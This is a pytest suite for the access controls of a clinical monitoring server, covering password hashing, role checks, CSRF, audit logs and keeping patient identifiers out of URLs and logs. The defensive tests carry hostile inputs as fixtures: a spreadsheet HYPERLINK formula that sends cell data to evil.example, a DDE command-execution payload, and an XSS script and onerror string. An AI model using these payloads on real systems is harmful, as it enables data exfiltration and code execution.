"""Access: accounts and roles, the sign-in gate of a real server, safe exports,
and no patient identifier in URLs or logs."""

from __future__ import annotations

import io
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import requests

from devices.csv_format import read_recording, write_long_csv
from devices.vocabulary import Reading, SourceKind, Status
from monitor.access import Role
from monitor.export import export_csv
from monitor.review.report import html_report
from monitor.store import Store
from monitor.store.users import UserError, add_user, change_user, sign_in
from tests.conftest import REPO, cli, free_port, until, wait_for_port

PASSWORDS = {"ada": "admin-pass-0001", "lee": "clinician-pass-02", "ana": "nurse-pass-0003"}
HOSTILE_PARAM = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE_NOTE = '<script>alert("x")</script><img src=x onerror=alert(1)>'


def make_accounts(store: Store) -> None:
    add_user(store, "ada", Role.ADMIN, PASSWORDS["ada"], by="test")
    add_user(store, "lee", Role.CLINICIAN, PASSWORDS["lee"], by="test")
    add_user(store, "ana", Role.NURSE, PASSWORDS["ana"], by="test")


def hostile_session(store: Store) -> int:
    """A session whose device named a parameter like a formula and whose notes hold markup."""
    session = store.create_session(chair="4", device="import:x.csv",
                                   source_kind=SourceKind.IMPORT, started_at=1_790_000_000.0,
                                   patient_ref="MRN-55501")
    store.add_readings(session, [
        Reading(1_790_000_000.0 + i, param, value, unit, Status.VALID, "+cmd|' /C calc'!A0")
        for i in range(3)
        for param, value, unit in (("hr", 70.0 + i, "/min"), (HOSTILE_PARAM, 1.0, "-"))])
    store.add_event(session, 1_790_000_001.0, "observation", "nurse", {"note": HOSTILE_NOTE})
    return session


def test_passwords_are_argon2id_and_sign_in_is_audited_and_throttled(db_path: Path) -> None:
    store = Store(db_path)
    make_accounts(store)
    hashes = [r[0] for r in store._execute("SELECT password_hash FROM users")]
    assert all(h.startswith("$argon2id$") for h in hashes)
    assert not any(p in h for h in hashes for p in PASSWORDS.values())
    with pytest.raises(UserError, match="at least 10"):
        add_user(store, "bob", Role.NURSE, "short", by="test")

    assert sign_in(store, "lee", PASSWORDS["lee"], remote="10.0.0.7").role is Role.CLINICIAN
    assert sign_in(store, "lee", "wrong password!") is None
    assert sign_in(store, "nobody", "whatever-at-all") is None
    for _ in range(5):
        sign_in(store, "ana", "not-her-password")
    # Five failures lock the name for a while, even against the right password.
    assert sign_in(store, "ana", PASSWORDS["ana"]) is None
    audit = store._execute("SELECT user, action, data FROM audit WHERE session_id IS NULL "
                           "ORDER BY id").fetchall()
    actions = [(u, a) for u, a, _ in audit]
    assert ("lee", "sign_in") in actions and ("nobody", "sign_in_failed") in actions
    assert '"reason": "locked after repeated failures"' in audit[-1][2]
    assert ("test", "user_added") in actions

    with pytest.raises(UserError, match="last admin"):
        change_user(store, "ada", by="test", role=Role.NURSE)
    change_user(store, "lee", by="ada", role=Role.ADMIN)
    change_user(store, "ada", by="lee", disabled=True)  # another admin remains
    assert sign_in(store, "ada", PASSWORDS["ada"]) is None


def test_the_exports_neutralise_formulas_and_markup(db_path: Path, tmp_path: Path) -> None:
    store = Store(db_path)
    session = hostile_session(store)
    out = io.StringIO()
    export_csv(store, session, out)
    text = out.getvalue()
    cells = [cell for line in text.splitlines()[1:] for cell in line.split(",")]
    # No cell a spreadsheet would run: each risky one starts with a quote.
    assert not [c for c in cells if c.lstrip('"').startswith(("=", "+", "@"))]
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1' in text
    assert "'+cmd|' /C calc'!A0" in text
    # ...and our own reader gives back exactly what was stored.
    path = tmp_path / "export.csv"
    path.write_text(text, newline="")
    back = read_recording(path)
    assert set(back.table.param.names) == {"hr", HOSTILE_PARAM}
    assert set(back.table.source.names) == {"+cmd|' /C calc'!A0"}
    assert set(back.table.unit.names) == {"/min", "-"}
    again = io.StringIO()
    write_long_csv(back.table, again)
    assert again.getvalue() == text

    report = html_report(store, session)
    assert "<script>" not in report and "<img" not in report
    assert "&lt;script&gt;" in report


@pytest.fixture
def server(tmp_path: Path) -> Iterator[tuple[str, Path, int]]:
    """`serve` listening on every address, over a store with three accounts."""
    db = tmp_path / "clinic.db"
    with Store(db) as store:
        make_accounts(store)
        session = hostile_session(store)
    port = free_port()
    process = subprocess.Popen([sys.executable, "-m", "monitor", "-v", "serve", "--db", str(db),
                                "--host", "0.0.0.0", "--port", str(port)], cwd=REPO, text=True,
                               stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    try:
        wait_for_port(port, process)
        yield f"http://127.0.0.1:{port}", db, session
    finally:
        process.terminate()
        out, _ = process.communicate(timeout=20)
        assert "MRN-55501" not in out  # no patient identifier in the server's log


def browser_session(base: str, name: str, password: str | None = None) -> requests.Session:
    web = requests.Session()
    form = web.get(f"{base}/login")
    token = re.search(r'name="csrf" value="([^"]+)"', form.text).group(1)
    answer = web.post(f"{base}/login", data={"csrf": token, "name": name, "next": "/",
                                             "password": password or PASSWORDS[name]},
                      allow_redirects=False)
    assert answer.status_code == (302 if password is None else 401), answer.text
    if answer.status_code == 302:
        cookie = answer.headers["Set-Cookie"]
        assert "HttpOnly" in cookie and "SameSite=Strict" in cookie
    return web


def dash_call(web: requests.Session, base: str, output: str) -> requests.Response:
    return web.post(f"{base}/_dash-update-component", json={
        "output": output, "outputs": {"id": output.split(".")[0], "property": "children"},
        "inputs": [], "changedPropIds": [], "state": []})


def test_roles_on_a_server_open_to_the_network(server: tuple[str, Path, int]) -> None:
    base, db, session = server
    anonymous = requests.Session()
    first = anonymous.get(f"{base}/chair/4", allow_redirects=False)
    assert first.status_code == 302 and first.headers["Location"] == "/login?next=/chair/4"
    assert dash_call(anonymous, base, "page.children").status_code == 401
    assert anonymous.get(f"{base}/export/{session}.csv", allow_redirects=False).status_code \
        == 302
    browser_session(base, "ana", "a wrong password")  # refused, audited

    nurse = browser_session(base, "ana")
    assert nurse.get(f"{base}/").status_code == 200
    assert nurse.get(f"{base}/export/{session}.csv").status_code == 403
    assert dash_call(nurse, base, "review-moment.children").status_code == 403
    assert nurse.get(f"{base}/admin/users").status_code == 403

    clinician = browser_session(base, "lee")
    export = clinician.get(f"{base}/export/{session}.csv")
    assert export.status_code == 200 and "'=HYPERLINK" in export.text
    assert dash_call(clinician, base, "review-moment.children").status_code not in (401, 403)

    admin = browser_session(base, "ada")
    page = admin.get(f"{base}/admin/users")
    token = re.search(r'name="csrf" value="([^"]+)"', page.text).group(1)
    forged = admin.post(f"{base}/admin/users", data={"op": "add", "name": "eve",
                                                     "role": "admin", "password": "x" * 12})
    assert forged.status_code == 400  # no form token: refused
    added = admin.post(f"{base}/admin/users", data={"csrf": token, "op": "add", "name": "kim",
                                                    "role": "nurse", "password": "kim-pass-0004"})
    assert added.status_code == 200 and "Added kim (nurse)." in added.text

    # Signing out voids the cookie, even a copy of it kept elsewhere.
    copied = requests.Session()
    copied.cookies.update(clinician.cookies)
    token = re.search(r'name="csrf" value="([^"]+)"', clinician.get(f"{base}/login").text)
    clinician.post(f"{base}/logout", data={"csrf": token.group(1)})
    assert copied.get(f"{base}/export/{session}.csv", allow_redirects=False).status_code == 302

    # An account disabled from the command line is signed out at its next click.
    assert nurse.get(f"{base}/").status_code == 200
    assert cli("users", "disable", "ana", "--db", str(db)).returncode == 0
    assert dash_call(nurse, base, "page.children").status_code == 401

    log = cli("users", "log", "--db", str(db), "--limit", "100").stdout
    for line in ("ana                  sign_in_failed   reason=wrong password",
                 "lee                  sign_out", "ada                  user_added       "
                 "role=nurse, user=kim", "ana                  refused          action=export"):
        assert line in log, log
    with Store(db) as store:
        exports = [a for a in store.audit(session) if a.action == "export"]
    assert [(a.user, a.data["format"]) for a in exports] == [("lee", "csv")]


def test_listening_beyond_this_computer_needs_accounts(tmp_path: Path) -> None:
    db = tmp_path / "open.db"
    Store(db).close()
    refused = cli("serve", "--db", str(db), "--host", "0.0.0.0", "--port", str(free_port()))
    assert refused.returncode == 2
    assert "needs user accounts" in refused.stderr and "users add" in refused.stderr
    assert "Traceback" not in refused.stderr


@pytest.mark.browser
def test_a_nurse_signs_in_and_acts_within_her_role(browser: Any, tmp_path: Path) -> None:
    db = tmp_path / "demo.db"
    with Store(db) as store:
        make_accounts(store)
    port = free_port()
    demo = subprocess.Popen([sys.executable, "-m", "monitor", "-vv", "demo", "--chairs", "1",
                             "--speed", "5", "--port", str(port), "--data-dir", str(tmp_path)],
                            cwd=REPO, text=True, stdout=subprocess.PIPE,
                            stderr=subprocess.STDOUT)
    urls: list[str] = []
    try:
        wait_for_port(port, demo)
        page = browser.new_page()
        page.on("request", lambda r: urls.append(r.url))
        page.goto(f"http://127.0.0.1:{port}/chair/1")
        page.fill('input[name="name"]', "ana")
        page.fill('input[name="password"]', PASSWORDS["ana"])
        page.click('button[type="submit"]')
        signed = page.get_by_test_id("signed-in")
        signed.wait_for(timeout=30_000)
        assert signed.inner_text() == "Signed in as ana (nurse)"
        assert page.url.endswith("/chair/1")
        feedback = page.locator('[data-testid="feedback"]')

        page.get_by_test_id("pause-audio").click()
        until(lambda: "pause audio: done" in feedback.inner_text(), 20, "the pause")
        page.fill("#profile", "our-stricter-profile.toml")
        page.get_by_test_id("new-session").click()
        until(lambda: "choosing an alarm profile needs a clinician account"
              in feedback.inner_text(), 10, "the refusal")
        page.fill("#profile", "")
        page.fill("#patient-ref", "MRN-99812")
        page.fill("#weight", "70")
        # The chair's page reloads to follow the new patient; navigating away
        # before it does would race that reload.
        with page.expect_navigation(timeout=30_000):
            page.get_by_test_id("new-session").click()
        until(lambda: [s for s in Store(db).sessions() if s.patient_ref == "MRN-99812"], 20,
              "the new session")

        page.goto(f"http://127.0.0.1:{port}/sessions")
        until(lambda: page.get_by_test_id("not-allowed").count(), 20, "the refusal page")
        page.get_by_test_id("sign-out").click()
        page.wait_for_url("**/login", timeout=10_000)
        page.close()
    finally:
        demo.terminate()
        out, _ = demo.communicate(timeout=20)
    with Store(db) as store:
        sessions = store.sessions()
        audit = set(store._execute("SELECT user, action FROM audit").fetchall())
    assert any(s.patient_ref == "MRN-99812" for s in sessions)  # kept in the record...
    assert not [u for u in urls if "MRN" in u]                   # ...never in a URL
    assert "MRN-99812" not in out                                # ...nor in the log
    assert audit >= {("ana", "sign_in"), ("ana", "pause_audio"), ("ana", "new_session"),
                     ("ana", "refused"), ("ana", "sign_out")}
